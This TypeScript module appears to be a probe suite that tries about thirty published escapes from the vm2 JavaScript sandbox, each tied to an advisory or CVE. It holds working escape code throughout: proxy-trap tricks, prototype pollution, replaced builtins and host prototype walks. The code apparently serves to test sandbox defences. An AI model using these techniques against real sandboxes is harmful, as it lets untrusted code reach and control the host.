/** Published ways out through objects of the host: constructors, prototypes, descriptors, arrays, the bridge's own machinery. */
import { attempted } from './plunder.ts';
import { type BreakOut, type Loose, realm } from './probe.ts';
import { foreignProtoGetter, foreignProtoSetter, hostFunction, hostThings, ofUnspeakable } from './reach.ts';

const { getPrototypeOf, setPrototypeOf, defineProperty } = Object;

/** Everything that is one step of `read` away from what may be the host's. */
function each(read: (thing: Loose) => unknown): unknown[] {
  return hostThings().map((thing) => attempted(() => read(thing)));
}

export const objects: readonly BreakOut[] = [
  {
    name: 'constructor-of-the-global',
    advisory: 'issue 32',
    versions: '≤ 3.0',
    idea: "The global object's constructor's constructor compiles in the realm that made the global object",
    attempt: () => [
      realm.constructor,
      realm.constructor?.constructor,
      ...each((thing) => thing.constructor.constructor),
    ],
  },
  {
    name: 'construct-trap',
    advisory: 'issues 177, 179',
    versions: '≤ 3.6.6',
    idea: 'A proxy of a class whose construct trap gives a function: made by the host, it gets the host for `this`',
    attempt() {
      const got: unknown[] = [];
      const trap = new Proxy(class {}, {
        construct: () =>
          function (this: unknown) {
            got.push(this);
          } as object,
      });
      each((thing) => new thing(trap));
      each((thing) => thing.from(trap));
      attempted(() => (new (trap as Loose)() as Loose)());
      return got.filter((value) => value !== globalThis);
    },
  },
  {
    name: 'descriptor-behind-the-getter',
    advisory: 'issue 184',
    versions: '≤ 3.6.7',
    idea: "The host's getter of `__proto__`, applied to a function of the host, gives a prototype whose constructor a descriptor tells",
    attempt: () =>
      each(
        (thing) =>
          Object.getOwnPropertyDescriptor(thing.__lookupGetter__('__proto__').call(thing), 'constructor')?.value,
      ),
  },
  {
    name: 'get-on-object-prototype',
    advisory: 'issue 185',
    versions: '≤ 3.6.8',
    idea: 'A trap leaves `get` on Object.prototype while the bridge copies a descriptor, which then throws a function of ours',
    attempt() {
      const got: unknown[] = [];
      const bait = new Proxy(
        {},
        {
          getPrototypeOf(target) {
            attempted(() =>
              defineProperty(Object.prototype, 'get', {
                configurable: true,
                get() {
                  throw (given: unknown) => got.push(given);
                },
              }),
            );
            return getPrototypeOf(target);
          },
        },
      );
      each((thing) => defineProperty(thing, 'bait', { value: bait, configurable: true }));
      attempted(() => Reflect.deleteProperty(Object.prototype, 'get'));
      return got;
    },
  },
  {
    name: 'host-function-out-of-a-trap',
    advisory: 'issue 186',
    versions: '≤ 3.6.9',
    idea: 'A getPrototypeOf trap throws a function of the host: what is caught is the function itself',
    attempt() {
      const got: unknown[] = [];
      const bait = new Proxy(
        {},
        {
          getPrototypeOf() {
            throw hostFunction();
          },
        },
      );
      try {
        each((thing) => defineProperty(thing, 'bait', { value: bait, configurable: true }));
        getPrototypeOf(bait);
      } catch (thrown) {
        got.push(
          thrown,
          attempted(() => (thrown as Loose).constructor),
        );
      }
      return got;
    },
  },
  {
    name: 'to-string-tag',
    advisory: 'issue 224',
    versions: '≤ 3.8.2',
    idea: 'The bridge reads Symbol.toStringTag of a replaced Symbol, whose getter throws a function that is given the host',
    attempt() {
      const got: unknown[] = [];
      const kept = realm.Symbol;
      attempted(() => {
        realm.Symbol = {
          get toStringTag() {
            throw (given: unknown) => got.push(given);
          },
        };
      });
      for (const thrown of each((thing) => thing.from(new Map()))) got.push(thrown);
      realm.Symbol = kept;
      return got;
    },
  },
  {
    name: 'method-on-type-error',
    advisory: 'issue 225',
    versions: '≤ 3.8.3',
    idea: 'A method on TypeError.prototype, called on an error that the host throws at a frozen object of its own, is given the host',
    attempt() {
      const got: unknown[] = [];
      attempted(() => {
        (TypeError.prototype as Loose).lend = (given: unknown) => got.push(given);
      });
      for (const thing of hostThings()) {
        try {
          (Object.preventExtensions(thing) as Loose).added = 1;
        } catch (thrown) {
          got.push(thrown);
          attempted(() => (thrown as Loose).lend(hostFunction()));
        }
      }
      return got;
    },
  },
  {
    name: 'descriptor-trap-throws',
    advisory: 'issue 225',
    versions: '≤ 3.8.3',
    idea: 'A getOwnPropertyDescriptor trap, asked by the host, throws a function to whoever looks at the argument',
    attempt() {
      const got: unknown[] = [];
      const bait = new Proxy(
        {},
        {
          getOwnPropertyDescriptor() {
            throw (given: unknown) => got.push(given);
          },
        },
      );
      for (const thing of hostThings()) {
        try {
          thing.from(bait);
        } catch (thrown) {
          attempted(() => (thrown as Loose)(() => {}));
        }
      }
      return got;
    },
  },
  {
    name: 'timer-with-a-host-prototype',
    advisory: 'issue 276',
    versions: '≤ 3.9.0',
    idea: 'What a timer returns is an object of the host',
    attempt: () =>
      ['setTimeout', 'setInterval', 'setImmediate'].flatMap((name) => {
        const timer = attempted(() => realm[name](() => {}, 60_000));
        return [timer, attempted(() => timer.ref())];
      }),
  },
  {
    name: 'caller-of-the-caller',
    advisory: 'vm2 catalogue, 5',
    versions: '≤ 3.6',
    idea: 'A function asks who called it: somewhere up there is the bridge',
    attempt() {
      const got: unknown[] = [];
      function asked(this: unknown): void {
        const here = asked as Loose;
        got.push(
          attempted(() => here.caller),
          attempted(() => here.arguments),
          this,
        );
        let at = attempted(() => here.caller);
        for (let up = 0; up < 8 && typeof at === 'function'; up++) {
          got.push(at);
          at = attempted(() => (at as Loose).caller);
        }
      }
      each((thing) => thing.from({ valueOf: asked, length: 1, 0: 1 }));
      [1].forEach(asked);
      asked();
      return got.filter((value) => value !== globalThis);
    },
  },
  {
    name: 'everything-is-an-instance',
    advisory: 'vm2 catalogue, 3',
    versions: '≤ 3.6',
    idea: "Symbol.hasInstance makes the bridge's instanceof answer what we like",
    attempt() {
      attempted(() => defineProperty(Object, Symbol.hasInstance, { value: () => true, configurable: true }));
      attempted(() => defineProperty(Function, Symbol.hasInstance, { value: () => true, configurable: true }));
      return each((thing) => thing.from.constructor);
    },
  },
  {
    name: 'replaced-builtins',
    advisory: 'vm2 catalogue, 10',
    versions: '≤ 3.8',
    idea: 'Object.create, Reflect.construct, Array and its map are replaced before the bridge uses them',
    attempt() {
      const got: unknown[] = [];
      const spy = (...given: unknown[]): unknown => {
        got.push(...given);
        return {};
      };
      for (const [holder, name] of [
        [Object, 'create'],
        [Object, 'defineProperty'],
        [Object, 'assign'],
        [Reflect, 'construct'],
        [Reflect, 'apply'],
        [Reflect, 'get'],
        [Array.prototype, 'map'],
        [realm, 'Array'],
        [realm, 'Map'],
        [realm, 'WeakMap'],
        [realm, 'Proxy'],
      ] as [Loose, string][]) {
        const kept = holder[name];
        attempted(() => {
          holder[name] = spy;
        });
        each((thing) => thing.from?.({ length: 1, valueOf: () => 1 }));
        attempted(() => {
          holder[name] = kept;
        });
      }
      return got;
    },
  },
  {
    name: 'trap-names-on-object-prototype',
    advisory: 'vm2 catalogue, 14',
    versions: '≤ 3.6',
    idea: 'has, get, set, apply and construct on Object.prototype become traps of a handler that inherits from it',
    attempt() {
      const got: unknown[] = [];
      for (const name of ['has', 'get', 'set', 'apply', 'construct', 'getPrototypeOf', 'ownKeys']) {
        attempted(() => {
          (Object.prototype as Loose)[name] = (target: unknown) => got.push(target);
        });
      }
      each((thing) => 'property' in thing);
      each((thing) => thing.property);
      for (const name of ['has', 'get', 'set', 'apply', 'construct', 'getPrototypeOf', 'ownKeys']) {
        attempted(() => Reflect.deleteProperty(Object.prototype, name));
      }
      return got;
    },
  },
  {
    name: 'call-and-apply-replaced',
    advisory: 'vm2 catalogue, 11',
    versions: '≤ 3.6',
    idea: 'Function.prototype.call, apply and bind are ours when the bridge calls with them',
    attempt() {
      const got: unknown[] = [];
      const kept = Object.getOwnPropertyDescriptors(Function.prototype);
      for (const name of ['call', 'apply', 'bind']) {
        attempted(() => {
          (Function.prototype as Loose)[name] = function (this: unknown, ...given: unknown[]) {
            got.push(this, ...given);
          };
        });
      }
      each((thing) => thing.from?.('x'));
      for (const name of ['call', 'apply', 'bind'] as const) {
        attempted(() => defineProperty(Function.prototype, name, kept[name]));
      }
      return got;
    },
  },
  {
    name: 'exported-prototype',
    advisory: 'CVE-2021-23449',
    versions: '< 3.9.4',
    idea: 'What is given out lets the host write into a prototype of its own: `__proto__` as an own key of it',
    attempt() {
      const given = JSON.parse('{"__proto__":{"polluted":"canary"},"constructor":{"prototype":{"polluted":"canary"}}}');
      each((thing) => Object.assign(thing, given));
      each((thing) => Object.assign(thing.constructor.prototype, { polluted: 1 }));
      return [given, ...each((thing) => thing.polluted)];
    },
  },
  {
    name: 'weak-map-set',
    advisory: 'CVE-2022-25893',
    versions: '< 3.9.10',
    idea: 'The bridge looks WeakMap.prototype.set up when it remembers what it wrapped: ours is told both',
    attempt() {
      const got: unknown[] = [];
      const kept = { set: WeakMap.prototype.set, get: WeakMap.prototype.get, has: WeakMap.prototype.has };
      for (const name of ['set', 'get', 'has'] as const) {
        attempted(() => {
          (WeakMap.prototype as Loose)[name] = function (this: unknown, ...given: unknown[]) {
            got.push(this, ...given);
            return undefined;
          };
        });
      }
      each((thing) => thing.from?.('x'));
      attempted(() => {
        throw new Error('to be wrapped');
      });
      for (const name of ['set', 'get', 'has'] as const)
        attempted(() => ((WeakMap.prototype as Loose)[name] = kept[name]));
      return got;
    },
  },
  {
    name: 'proxy-as-a-prototype',
    advisory: 'CVE-2023-32314',
    versions: '< 3.9.18',
    idea: 'A proxy of a proxy lets the engine make an array or an arguments object in the host, as the language says of proxies',
    attempt() {
      const got: unknown[] = [];
      const handler: Loose = new Proxy(
        {},
        {
          get:
            (_target, trap) =>
            (...given: unknown[]) => {
              got.push(...given);
              return (Reflect as Loose)[trap]?.(...given);
            },
        },
      );
      const outer: Loose = new Proxy(() => {}, handler);
      each((thing) => thing.from(outer));
      attempted(() => outer(1, 2));
      attempted(() => new outer(1));
      attempted(() => Reflect.ownKeys(outer));
      const error = new Error('x');
      attempted(() => defineProperty(error, 'name', { value: outer }));
      got.push(attempted(() => error.stack));
      return got;
    },
  },
  {
    name: 'species-gives-the-array-back',
    advisory: 'CVE-2026-24118, GHSA-grj5-jjm8-h35p',
    versions: '≤ 3.10.4',
    idea: 'The species of an array of the host returns the array itself: map then puts what the host made into it, unwrapped',
    attempt() {
      const got: unknown[] = [];
      const arrays = [
        ...each((thing) => thing.constructor.entries({})),
        ...each((thing) => thing.of(1).toJSON().data),
        [0],
      ];
      for (const array of arrays as Loose[]) {
        if (!Array.isArray(array)) continue;
        const same: Loose = () => array;
        attempted(() => {
          same[Symbol.species] = same;
          array[0] = 0;
          (array as Loose).constructor = () => array;
          (array as Loose).constructor[Symbol.species] = (array as Loose).constructor;
        });
        attempted(() => array.map(foreignProtoGetter()));
        got.push(...array);
      }
      return got;
    },
  },
  {
    name: 'descriptors-of-descriptors',
    advisory: 'vm2 catalogue, 15',
    versions: '≤ 3.10.4',
    idea: 'Object.entries of a descriptor, done by the host, gives the constructor that reading the descriptor hides',
    attempt() {
      const got: unknown[] = [];
      for (const thing of hostThings()) {
        const of = attempted(() => thing.constructor);
        for (const start of [thing, of]) {
          const descriptors = attempted(() => Object.getOwnPropertyDescriptors(getPrototypeOf(start)));
          got.push(
            attempted(() => Object.entries(descriptors ?? {}).flatMap(([, descriptor]) => Object.values(descriptor))),
          );
        }
      }
      return got;
    },
  },
  {
    name: 'host-object-by-prototype-walk',
    advisory: 'CVE-2026-43997, GHSA-47x8-96vw-5wg6',
    versions: '≤ 3.10.5',
    idea: "The host's getter of `__proto__` walks from a buffer to the host's Object, and from it to all that it can do",
    attempt() {
      const getter = foreignProtoGetter();
      return each((thing) => {
        const walked: unknown[] = [];
        for (let at = thing, step = 0; at !== null && at !== undefined && step < 8; step++) {
          at = getter.call(at);
          walked.push(at, at?.constructor);
        }
        return walked;
      });
    },
  },
  {
    name: 'write-into-a-host-prototype',
    advisory: 'CVE-2026-44005, GHSA-vwrp-x96c-mhwq',
    versions: '3.9.6 – 3.10.5',
    idea: "The bridge's write traps pass a write on to Object.prototype and its like on the other side",
    attempt() {
      const getter = foreignProtoGetter();
      each((thing) => {
        for (let at = thing, step = 0; at !== null && step < 6; step++) {
          at = getter.call(at);
          attempted(() => (at.marker = 'polluted'));
          attempted(() => Reflect.defineProperty(at, 'marker', { value: 'polluted', configurable: true }));
        }
      });
      return [...each((thing) => thing.marker), ({} as Loose).marker].map((marker) =>
        marker === 'polluted' ? { did: 'writes into a shared prototype' } : null,
      );
    },
  },
  {
    name: 'binary-prototypes',
    advisory: 'CVE-2026-92953, GHSA-3vgf-8m4q-q4qr',
    versions: '3.11.0 – 3.11.7',
    idea: 'The prototypes of typed arrays and iterators of the host were not among those that are kept',
    attempt() {
      const getter = foreignProtoGetter();
      const bytes = attempted(() => realm.Buffer.from([1])) ?? new Uint8Array(1);
      for (const start of [bytes, bytes.values(), bytes.buffer]) {
        for (let at = start, step = 0; at !== null && at !== undefined && step < 5; step++) {
          at = attempted(() => getter.call(at)) as Loose;
          attempted(() => Reflect.defineProperty(at, 'marker', { value: at, configurable: true }));
          attempted(() => Reflect.defineProperty(at, 'next', { value: () => ({ done: true }), configurable: true }));
        }
      }
      const made = [attempted(() => realm.Buffer.from([1])), attempted(() => realm.Buffer.of(1).buffer)];
      return made.map((value) => (value?.marker === undefined ? null : { did: 'writes into a shared prototype' }));
    },
  },
  {
    name: 'handler-by-inspection',
    advisory: 'CVE-2026-24781, GHSA-v37h-5mfm-c47c',
    versions: '≤ 3.10.5',
    idea: 'inspect with showProxy shows the bridge its own handler, whose class makes new handlers of ours',
    attempt() {
      const got: unknown[] = [];
      const inspect = attempted(() => realm.Buffer.prototype.inspect);
      const bait: Loose = {
        subarray: inspect,
        slice: attempted(() => realm.Buffer.prototype.slice),
        hexSlice: () => '',
        hidden: { __proto__: null },
      };
      attempted(() =>
        bait.slice(20, {
          showHidden: true,
          showProxy: true,
          depth: 10,
          stylize(this: Loose, text: string) {
            for (const seen of this.seen ?? []) {
              got.push(
                seen,
                attempted(() => seen.constructor),
                attempted(() => new seen.constructor({})),
              );
            }
            return text;
          },
        }),
      );
      return got;
    },
  },
  {
    name: 'handler-with-a-forged-target',
    advisory: 'CVE-2026-44006, GHSA-qcp4-v2jj-fjx8',
    versions: '≤ 3.10.5',
    idea: "A trap of the bridge, got by inspection, is called as a function with a target that is not its proxy's",
    attempt() {
      const got: unknown[] = [];
      const inspected = attempted(() => realm.Buffer.prototype.inspect);
      attempted(() =>
        inspected.call({ l: {} }, 5, {
          showProxy: true,
          stylize(this: Loose, text: string) {
            const handler = this.seen?.[1];
            for (const trap of ['getPrototypeOf', 'get', 'getOwnPropertyDescriptor']) {
              got.push(attempted(() => handler[trap](hostFunction(), 'constructor', hostFunction())));
            }
            return text;
          },
        }),
      );
      return got;
    },
  },
  {
    name: 'setter-on-array-prototype',
    advisory: 'CVE-2026-44008, GHSA-9qj6-qjgg-37qq',
    versions: '≤ 3.11.1',
    idea: 'The bridge keeps its own records in an array: a setter on Array.prototype is told each of them',
    attempt() {
      const records: Loose[] = [];
      const given: Loose = [];
      const seen: { last: Loose } = { last: null };
      for (const index of [0, 1, 2]) {
        attempted(() =>
          defineProperty(Array.prototype, index, {
            configurable: true,
            set(record: unknown) {
              seen.last = record;
            },
          }),
        );
      }
      for (const ask of [(thing: Loose) => new thing(given), (thing: Loose) => thing.from?.(given)]) {
        for (const thing of [realm.Buffer, realm.console?.log, realm.VMError]) {
          attempted(() => ask(thing));
          if (seen.last !== null) break;
        }
      }
      for (const index of [0, 1, 2]) attempted(() => Reflect.deleteProperty(Array.prototype, index));
      if (seen.last === null) return [];
      // What we put into our array comes back through the record as the host has it.
      for (const [at, thing] of hostThings().entries()) given[`f${at}`] = thing;
      records.push(
        seen.last,
        attempted(() => seen.last.arr),
      );
      for (const name of Object.keys(given)) records.push(attempted(() => seen.last.arr[name]));
      return records;
    },
  },
  {
    name: 'thrown-without-a-prototype',
    advisory: 'CVE-2026-44009, GHSA-9vg3-4rfj-wgcm',
    versions: '≤ 3.11.1',
    idea: 'An object without a prototype is taken for the host’s when it is caught: what is written to it arrives unwrapped',
    attempt() {
      const carrier: Loose = Object.create(null);
      try {
        throw carrier;
      } catch (thrown) {
        for (const [at, thing] of hostThings().entries()) attempted(() => ((thrown as Loose)[`f${at}`] = thing));
        for (const [at, thing] of hostThings().entries()) {
          attempted(() => ((thrown as Loose)[`g${at}`] = thing.inspect ?? thing.from));
        }
      }
      return Object.values(carrier);
    },
  },
  {
    name: 'prototype-cut-off',
    advisory: 'CVE-2026-47131, GHSA-v6mx-mf47-r5wg',
    versions: '≤ 3.11.3',
    idea: "The host's setter of `__proto__` cuts an error's prototype off, so that the bridge does not know the next one again",
    attempt() {
      const getter = foreignProtoGetter();
      const setter = foreignProtoSetter();
      const got: unknown[] = [];
      for (const thing of [...hostThings(), ofUnspeakable()]) {
        attempted(() => setter.call(getter.call(thing), null));
        attempted(() => Reflect.apply(setter, getter.call(thing), [null]));
        got.push(
          thing,
          attempted(() => (thing as Loose).constructor),
        );
      }
      got.push(...hostThings());
      return got;
    },
  },
  {
    name: 'call-of-call-of-call',
    advisory: 'CVE-2026-47698, GHSA-cfcw-xp6x-25gj',
    versions: '≤ 3.11.5',
    idea: 'One call more in front hides from the bridge which function is called in the end; or bind and map do it on the other side',
    attempt() {
      const setter = foreignProtoSetter();
      const getter = foreignProtoGetter();
      const { call, apply, bind } = hostFunction();
      const got: unknown[] = [];
      for (const thing of hostThings()) {
        attempted(() => call.call(call, setter, call.call(call, getter, thing), null));
        attempted(() => call.call.call(call, setter, thing, null));
        const laundered = attempted(() => call.call(bind, apply, call, call));
        got.push(
          attempted(() => [[getter, thing]].map(laundered)),
          attempted(() => laundered([setter, thing, null])),
        );
      }
      got.push(...hostThings());
      return got;
    },
  },
  {
    name: 'written-through-an-heir',
    advisory: 'CVE-2026-47209, GHSA-c4cf-2hgv-2qv6',
    versions: '≤ 3.11.3',
    idea: 'A write to an object that inherits from one of the host lands in the host: the trap does not look who is written to',
    attempt() {
      for (const thing of hostThings()) {
        attempted(() => (Object.create(thing).marker = 'written'));
        attempted(() => Reflect.set(thing, 'marker', 'written', {}));
        attempted(() => Object.assign(Object.create(thing), { marker: 'written' }));
      }
      const written = hostThings().some((thing) => attempted(() => Object.hasOwn(Object(thing), 'marker')) === true);
      return written ? [{ did: 'writes into an object of the host' }] : [];
    },
  },
  {
    name: 'climb-by-the-raw-getter',
    advisory: 'CVE-2026-92955, GHSA-88hf-g992-jg85',
    versions: '≤ 3.11.7',
    idea: 'The raw getter shows the prototypes between, which nobody keeps: EventEmitter’s emit is replaced, and the host emits',
    attempt() {
      const getter = foreignProtoGetter();
      const got: unknown[] = [];
      for (const thing of [...hostThings(), attempted(() => realm.console._stdout)]) {
        for (let at = thing as Loose, step = 0; at !== null && at !== undefined && step < 10; step++) {
          at = attempted(() => getter.call(at)) as Loose;
          if (attempted(() => Object.hasOwn(at, 'emit'))) {
            at.emit = function (this: unknown) {
              got.push(this);
            };
            got.push(at);
          }
        }
      }
      return got;
    },
  },
  {
    name: 'nobody-for-this',
    advisory: 'CVE-2026-93603, GHSA-j89j-5m6r-cr2q',
    versions: '≤ 3.12.0',
    idea: 'A function of the host that is not strict, called without `this`, gets the host’s global object for it',
    attempt: () =>
      hostThings()
        .flatMap((thing) => {
          const functions = [thing, ...Object.values(Object(thing)), thing.valueOf, thing.constructor].filter(
            (value) => typeof value === 'function',
          );
          return functions.flatMap((act: Loose) => [
            attempted(() => act()),
            attempted(() => act.call(null)),
            attempted(() => Reflect.apply(act, undefined, [])),
          ]);
        })
        .filter((value) => value !== globalThis),
  },
  {
    name: 'setter-of-what-is-frozen',
    advisory: 'GHSA-633r-hq9m-c4ff',
    versions: '≤ 3.11.6',
    idea: 'A view that may only be read tells its setter in the descriptor',
    attempt: () =>
      hostThings().flatMap((thing) =>
        Reflect.ownKeys(Object(thing)).map((key) => {
          const setter = attempted(() => Object.getOwnPropertyDescriptor(thing, key)?.set);
          attempted(() => setter?.call(thing, 'written'));
          return setter;
        }),
      ),
  },
  {
    name: 'prototypes-moved',
    advisory: 'vm2 catalogue, 2',
    versions: '≤ 3.6',
    idea: 'The prototype of what the bridge gives is set to something of ours, or to nothing, before it is used again',
    attempt() {
      for (const thing of hostThings()) {
        attempted(() => setPrototypeOf(thing, null));
        attempted(() => setPrototypeOf(thing, { constructor: Function }));
        attempted(() => thing.__defineGetter__('toString', () => hostFunction()));
      }
      return hostThings();
    },
  },
];
